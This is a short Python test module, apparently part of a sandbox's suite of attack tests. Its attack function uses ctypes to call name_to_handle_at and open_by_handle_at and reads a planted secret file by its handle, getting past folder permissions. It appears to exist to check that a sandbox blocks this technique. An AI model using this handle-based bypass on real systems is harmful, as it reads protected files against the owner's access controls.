"""Opens the secret file by its handle, past every folder's permission; success is the secret."""

import ctypes
import os

from tests.attacks.toolkit import Plants, call

PROOF = "file"
AT_FDCWD = -100


def attack(plants: Plants) -> str | None:
    handle = ctypes.create_string_buffer((120).to_bytes(4, "little"), 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, plants.secret.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(plants.folder, os.O_RDONLY)
    return os.read(call("open_by_handle_at", folder, handle, os.O_RDONLY), 64).decode()
